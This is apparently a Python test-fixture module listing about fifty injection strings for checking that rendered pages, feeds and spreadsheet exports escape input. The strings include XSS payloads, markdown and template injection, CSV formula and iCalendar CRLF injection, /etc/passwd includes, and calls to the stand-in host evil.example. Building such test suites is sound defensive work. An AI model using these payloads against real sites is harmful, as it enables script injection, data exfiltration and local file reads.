"""Texts that would act if a page, a feed or a table took them for more than text.

Ours are below: each would set `window.ran` or ask `evil.example`. Larger lists lie outside the
repository, where `DATELINE_HOSTILE` says.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

ROOT = Path(__file__).parents[1]

OWN = (
    "<script>window.ran=1</script>",
    "<ScRiPt >window.ran=1</sCrIpT >",
    "</title><script>window.ran=1</script>",
    "</textarea></style></noscript><script>window.ran=1</script>",
    "</script><script>window.ran=1</script>",
    "--><script>window.ran=1</script><!--",
    "--!><img src=x onerror=window.ran=1>",
    "]]><script>window.ran=1</script><![CDATA[",
    "<img src=x onerror=window.ran=1>",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
    "<svg/onload=window.ran=1>",
    "<svg><script href=data:,window.ran=1 /><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=ran=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<details open ontoggle=window.ran=1><summary>more</summary></details>",
    "<input autofocus onfocus=window.ran=1>",
    "<video autoplay src=x onerror=window.ran=1 poster=https://evil.example/p>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.ran=1</script>'></object>",
    "<embed src='javascript:parent.ran=1'>",
    "<link rel=stylesheet href=https://evil.example/style.css>",
    "<style>@import 'https://evil.example/import.css'; * { display: none }</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button autofocus>send</button></form>",
    "<a href='javascript:window.ran=1' id=config name=__md_scope>x</a>",
    '" onmouseover="window.ran=1" autofocus onfocus="window.ran=1" x="',
    "' onpointerenter='window.ran=1' style='position:fixed;inset:0' x='",
    "` onfocus=window.ran=1 autofocus x=`",
    "</div></div></article></main><script>window.ran=1</script>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.ran=1&#62;",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "[x](javascript:window.ran=1) [y](data:text/html,<script>parent.ran=1</script>)",
    "[x](<java&#x09;script:window.ran=1>) <javascript:window.ran=1>",
    "[x][1]\n\n[1]: vbscript:window.ran=1 '\" onclick=window.ran=1'",
    "![x](https://evil.example/pixel.png 'a' onerror=window.ran=1)",
    "# x {: onclick=window.ran=1 } \n\n[y](https://a.example){: onclick=window.ran=1 }",
    "```html title='<script>window.ran=1</script>'\n<script>window.ran=1</script>\n```",
    "--8<-- '/etc/passwd'\n\n{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }} {{constructor.constructor('window.ran=1')()}} ${window.ran=1}",
    "javascript:window.ran=1//",
    "//evil.example/x",
    '=HYPERLINK("https://evil.example/","x")',
    "@import 'https://evil.example/a.css';",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nURL:https://evil.example/",
    "__proto__",
    "constructor",
    "\u202egnp.exe\u202c\u2066\u200f",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
)


def shared() -> tuple[str, ...]:
    """Return the payloads of the lists outside the repository, none where there are none."""
    folder = Path(os.environ.get("DATELINE_HOSTILE") or ROOT.parent / "shared" / "hostile")
    if not folder.is_dir():
        return ()
    rows = (folder / "xss.jsonl").read_text(encoding="utf-8").strip().split("\n")
    naughty = json.loads((folder / "naughty-strings" / "blns.json").read_text(encoding="utf-8"))
    return tuple(dict.fromkeys([*(json.loads(row)["payload"] for row in rows), *naughty]))
